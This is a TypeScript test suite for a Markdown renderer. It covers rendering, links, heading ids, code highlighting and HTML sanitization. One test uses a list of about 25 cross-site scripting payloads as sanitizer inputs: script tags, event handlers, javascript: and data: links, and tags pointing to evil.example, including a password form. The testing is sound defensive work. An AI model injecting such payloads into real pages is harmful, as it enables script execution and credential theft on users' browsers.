import { escapeHtml } from '../../kit/html/escape-html';
import { markup } from '../../kit/html/markup';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { firstSentence, plainText } from './markdown-tree';
import { renderMarkdown } from './render-markdown';

describe('renderMarkdown', () => {
  it('renders CommonMark and tables', () => {
    expect(renderMarkdown('Send `limit` and **wait**, k1=~v1, k2=[a~b], ~~not~~.')).toBe(
      '<p>Send <code>limit</code> and <strong>wait</strong>, k1=~v1, k2=[a~b], <del>not</del>.</p>',
    );
    expect(renderMarkdown('| a | b |\n| - | -: |\n| 1 | 2 |')).toContain('<td align="right">2</td>');
  });

  it.each([
    'Only `a` and `b c`, e.g. 1:2.',
    'Has https://a.example in it',
    'mail a@b.example',
    '1. one',
    '1) one',
    '- one',
    '# one',
    '`` a`b ``',
    '` a `',
    'a `b` `c`d',
    'a ` b',
    'a: b / c - d + e = f',
    'See www.a.example',
    'tab\t`x`',
  ])('renders %j the same with and without the parser', (text) => {
    // A trailing line break does not change the text but requires the parser.
    expect(renderMarkdown(text)).toBe(renderMarkdown(`${text}\n\n<!-- -->`).trim());
  });

  it('keeps links into the site and marks links out of it', () => {
    const seen: string[] = [];
    const html = renderMarkdown('[a](/general/x#y) [b](https://a.example) [c](#d) [e](/gone)', {
      followLink: (href) => {
        seen.push(href);
        return href === '/gone' ? undefined : href;
      },
    });
    expect(html).toBe(
      '<p><a href="/general/x#y">a</a> <a href="https://a.example" rel="noopener noreferrer">b</a> <a href="#d">c</a> <span>e</span></p>',
    );
    expect(seen).toEqual(['/general/x#y', 'https://a.example', '#d', '/gone']);
  });

  it('reports links in tables once', () => {
    const seen: string[] = [];
    renderMarkdown('| a |\n| - |\n| [x](/x) |', { followLink: (href) => String(seen.push(href)) });
    expect(seen).toEqual(['/x']);
  });

  it("puts headings below the page's level, with ids", () => {
    const ids: string[] = [];
    const html = renderMarkdown('# Base URL\n\n## More', {
      headingDepth: 3,
      claimId: (id) => id,
      onHeading: ({ id, depth }) => ids.push(`${depth} ${id}`),
    });
    expect(html).toContain('<h3 id="base-url">Base URL<a class="hash-link" href="#base-url"');
    expect(ids).toEqual(['3 base-url', '4 more']);
    expect(renderMarkdown('# Big')).toBe('<p><strong>Big</strong></p>');
  });

  it('highlights at most 40,000 characters of code', () => {
    const block = `\`\`\`ts\n${'a'.repeat(19_000)}\n\`\`\`\n\n`;
    const seen: string[] = [];
    const html = renderMarkdown(block.repeat(3), {
      highlight: (code) => escapeHtml(String(seen.push(code))),
    });
    expect(seen).toHaveLength(2);
    expect(html.match(/a{19000}/g)).toHaveLength(1);
  });

  it('highlights code', () => {
    expect(renderMarkdown('```json\n{"a": "<b>"}\n```')).toContain(
      '<code class="language-json">{"a": "&lt;b&gt;"}</code>',
    );
    expect(
      renderMarkdown('```json\n1\n```', {
        highlight: (code, language) => markup`<i>${escapeHtml(language)} ${escapeHtml(code)}</i>`,
      }),
    ).toContain('<i>json 1</i>');
  });

  const hostile: readonly (readonly [string, string])[] = [
    ['a script', 'a <script>alert(1)</script> b'],
    ['a script as a block', '<script>\nalert(1)\n</script>'],
    ['a broken script', '<script src=//evil.example'],
    ['a script that closes early', '<scr<script>ipt>alert(1)</script>'],
    ['an image with an event', '<img src=x onerror=alert(1)>'],
    ['an image as a block', '<img\nsrc=x\nonerror=alert(1)>\n'],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['a style', '<style>@import "//evil.example"</style><p style="position:fixed">x</p>'],
    ['a javascript link', '[x](javascript:alert(1))'],
    ['a javascript link in disguise', '[x](JaVaScRiPt&colon;alert(1))'],
    ['a javascript link with a tab', '[x](java&#x09;script:alert(1))'],
    ['a data link', '[x](data:text/html,<script>alert(1)</script>)'],
    ['a vbscript autolink', '<vbscript:msgbox(1)>'],
    ['an image from a data address', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
    ['an image from elsewhere', '![x](https://evil.example/pixel.gif)'],
    ['a reference link', '[x][y]\n\n[y]: javascript:alert(1)'],
    ['a title that breaks out', '[x](https://a.example "\\"onmouseover=alert(1) x=\\"")'],
    ['a code language that breaks out', '```"><script>alert(1)</script>\nx\n```'],
    ['a form', '<form action=//evil.example><input name=password></form>'],
    ['an object', '<object data=//evil.example></object><embed src=//evil.example>'],
    ['an SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>'],
    ['a base', '<base href="//evil.example">'],
    ['a meta refresh', '<meta http-equiv=refresh content="0;url=//evil.example">'],
    ['an id that shadows', '<a id=___loader name=___loader>x</a>'],
    ['a comment that hides', '<!-- <script>alert(1)</script> -->x<!--'],
  ];

  it.each(hostile)('sanitizes %s', (_, markdown) => {
    const html = renderMarkdown(markdown, { headingDepth: 2, claimId: (id) => id });
    const tags = [...html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)];
    expect(
      tags
        .map((tag) => tag[1])
        .filter((name) => !/^(p|a|span|code|pre|figure|button|br|em|strong)$/.test(name ?? '')),
    ).toEqual([]);
    for (const [, , attributes = ''] of tags) {
      expect(attributes.replace(/ id="text-[^"]*"/, '').replace(/"[^"]*"/g, '""')).not.toMatch(
        /\b(on\w+|style|id|name|srcdoc|src)\s*=/i,
      );
      expect(attributes).not.toMatch(/(?:href)="(?!https?:|\/|#|mailto:)/i);
    }
  });

  it.each(['> ', '- ', '1. ', '>', '[', '*a ', '`a ', '![', '[a]('])(
    'handles %j repeated thousands of times',
    (unit) => {
      expect(renderMarkdown(`${unit.repeat(4000)}deep`)).toContain('deep');
    },
    30_000,
  );

  it('renders the elements of raw HTML that a description can contain', () => {
    expect(renderMarkdown('<p>Hello <b>you</b></p>')).toBe('<p>Hello <strong>you</strong></p>');
    expect(renderMarkdown('a<br>b <b>c</b>')).toBe('<p>a<br>b <strong>c</strong></p>');
    expect(renderMarkdown('<a href="/x" onclick="y()">a</a> <span class="z">b</span>')).toBe(
      '<p><a href="/x">a</a> b</p>',
    );
    expect(renderMarkdown('<ul><li>a</li><li><code>b</code></li></ul>')).toBe(
      '<ul><li>a</li><li><code>b</code></li></ul>',
    );
    expect(renderMarkdown('<table><tr><td colspan="2">a</td></tr></table>')).toContain(
      '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
    );
    expect(renderMarkdown('<aside class="notice">\n\nSee *this*.\n\n</aside>')).toBe(
      '<aside>\n<p>See <em>this</em>.</p>\n</aside>',
    );
    expect(renderMarkdown('<details><summary>More</summary>Text</details>')).toBe(
      '<details><summary>More</summary>Text</details>',
    );
    expect(renderMarkdown('<div>a</div> and List<String>')).toBe('<div>a</div><p> and List&#x3C;String></p>');
  });

  it.each([
    ['<div id="getElementById">a</div>\n\n[b](#getElementById)', '<div id="text-getElementById">a</div>'],
    ['<a name="main"></a>One.\n\n[b](#main)', '<span id="text-main"></span>'],
    ['<h2 id="search">Find</h2>\n\n[b](#search)', '<a class="hash-link" id="text-search" href="#find"'],
    ['<pre id="cookie"><code>x</code></pre>\n\n[b](#cookie)', '<figure id="text-cookie" class="code-block"'],
    ['<p id="größe">a</p>\n\n[b](#gr%C3%B6%C3%9Fe)', '<p id="text-größe">a</p>'],
  ])('puts a prefix before the ids and names of %s, which its links find', (markdown, expected) => {
    const html = renderMarkdown(markdown, {
      headingDepth: 2,
      claimId: (id) => id,
      followLink: () => undefined,
    });
    expect(html).toContain(expected);
    const { document } = new JSDOM(html).window;
    const [link] = [...document.querySelectorAll<HTMLAnchorElement>('a')].filter(
      ({ textContent }) => textContent === 'b',
    );
    expect(document.getElementById(decodeURIComponent(link?.hash.slice(1) ?? ''))).not.toBeNull();
    // Without an owner of the page's ids, there is none.
    expect(renderMarkdown(markdown)).not.toMatch(/ (?:id|name)=/);
  });

  it.each('li td th tr dt dd option optgroup caption tbody thead tfoot col summary'.split(' '))(
    'leaves the page around it whole if a description has <%s> outside of its parent',
    (name) => {
      for (const inside of [
        `<${name}>x`,
        `<div><${name}>x</${name}></div>`,
        `- a\n  <p><${name}>x</p>`,
        `</${name}></ul></table>x`,
      ]) {
        const text = `<div class="text">${renderMarkdown(inside)}</div>`;
        const page = `<ul><li>${text}<table><tbody><tr><td><dl><dt>n</dt><dd>${text}</dd></dl></td></tr></tbody></table></li></ul>`;
        const { document } = new JSDOM(page).window;
        const whole = '.text + table td:only-child > dl > dd:only-of-type > .text:only-child';
        expect(document.querySelector(`body > ul > li:only-child > ${whole}`)?.textContent, inside).toContain(
          'x',
        );
        expect(document.body.children).toHaveLength(1);
      }
    },
  );

  it('turns images of other sites into links', () => {
    expect(renderMarkdown('<img src="https://a.example/b.png" alt="Hall">')).toBe(
      '<p><a href="https://a.example/b.png" rel="noopener noreferrer">Hall</a></p>',
    );
    expect(renderMarkdown('![](https://a.example/b.png)')).toBe(
      '<p><a href="https://a.example/b.png" rel="noopener noreferrer">b.png</a></p>',
    );
    expect(renderMarkdown('[![Build](https://a.example/b.png)](https://c.example)')).toBe(
      '<p><a href="https://c.example" rel="noopener noreferrer"><span>Build</span></a></p>',
    );
  });
});

describe('angle brackets', () => {
  it.each([
    ['Returns a List<String>.', 'Returns a List&#x3C;String>.'],
    ['Early <x-lifecycle class="ea"></x-lifecycle>access.', 'Early access.'],
    ['Some <x-note>kept</x-note> <x-icon name="a"> <x-b/>text.', 'Some kept  text.'],
    ['To <Order-Id>x</Order-Id>.', 'To &#x3C;Order-Id>x&#x3C;/Order-Id>.'],
    ['A Map<String, List<Table>> of them', 'A Map&#x3C;String, List&#x3C;Table>> of them'],
    ['Send <machine-id> as key.', 'Send &#x3C;machine-id> as key.'],
    ['Named <group>.<resource>.', 'Named &#x3C;group>.&#x3C;resource>.'],
    ['<group>.<resource> is its name.', '&#x3C;group>.&#x3C;resource> is its name.'],
    ['GET /<object>/<data> reads *one*.', 'GET /&#x3C;object>/&#x3C;data> reads <em>one</em>.'],
    ['a </closed> b', 'a &#x3C;/closed> b'],
    ['Before <!-- all of this', 'Before &#x3C;!-- all of this'],
    ['<p>Use List<String> here</p>', 'Use List&#x3C;String> here'],
  ])('of %j are text', (markdown, html) => {
    expect(renderMarkdown(markdown)).toBe(`<p>${html}</p>`);
  });

  it('at the beginning of a block do not affect the Markdown after them', () => {
    expect(renderMarkdown('<machine-id>\nis *one*.\n\n- a')).toBe(
      '<p>&#x3C;machine-id>\nis <em>one</em>.</p>\n<ul>\n<li>a</li>\n</ul>',
    );
    expect(renderMarkdown('<!-- open\n\nText *after* it.')).toBe(
      '<p>&#x3C;!-- open</p>\n<p>Text <em>after</em> it.</p>',
    );
  });

  it('of other HTML are removed, and closed comments with their text', () => {
    expect(renderMarkdown('a <font>b</font> <i class="x">c</i> <span>d</span>')).toBe(
      '<p>a b <em>c</em> d</p>',
    );
    expect(renderMarkdown('a <!-- b --> c')).toBe('<p>a  c</p>');
    expect(renderMarkdown('<!-- a -->\n\nb')).toBe('<p>b</p>');
    expect(renderMarkdown('a <script>alert(1)</script> b')).toBe('<p>a  b</p>');
  });

  it.each([
    [
      'Begin with <script>, end with </script>.\n\nNever <script> alone.\n\nEND',
      ['&lt;script>', '&lt;/script>', 'END'],
    ],
    ['Close <iframe> with </iframe>.\n\nOpen <iframe> again END', ['&lt;iframe>', 'END']],
    ['<title>A</title> and <title> END', ['&lt;title>A&lt;/title>', 'END']],
    ['if a <b and c> d END', ['a &lt;b and c> d END']],
  ])('shows all of %j, in which an element has no end', (text, parts) => {
    const html = renderMarkdown(text).replaceAll('&#x3C;', '&lt;').replaceAll('&gt;', '>');
    for (const part of parts) expect(html).toContain(part);
    expect(html).not.toMatch(/<(?:script|iframe|title|b)\b/);
    expect(renderMarkdown('a <svg><path d="M0"/></svg>')).toBe('<p>a </p>');
    expect(renderMarkdown('<table><tr><td>a<td>b</table>')).toContain('<td>a</td><td>b</td>');
  });

  it('stay in plain text', () => {
    expect(plainText('A List<String> of <machine-id>')).toBe('A List<String> of <machine-id>');
    expect(firstSentence('Early <x-a b="c"></x-a> access.')).toBe('Early access.');
  });
});

describe('plain text', () => {
  it('has no markup', () => {
    expect(plainText('Send `limit`, see [Paging](/x).\n\n- one\n- two')).toBe(
      'Send limit, see Paging. one two',
    );
  });

  it('finds the first sentence', () => {
    expect(firstSentence('Lists users, e.g. of one company. More.\n\nEven more.')).toBe(
      'Lists users, e.g. of one company.',
    );
    expect(firstSentence('Version 1.2 of it')).toBe('Version 1.2 of it');
    expect(firstSentence('')).toBe('');
  });
});
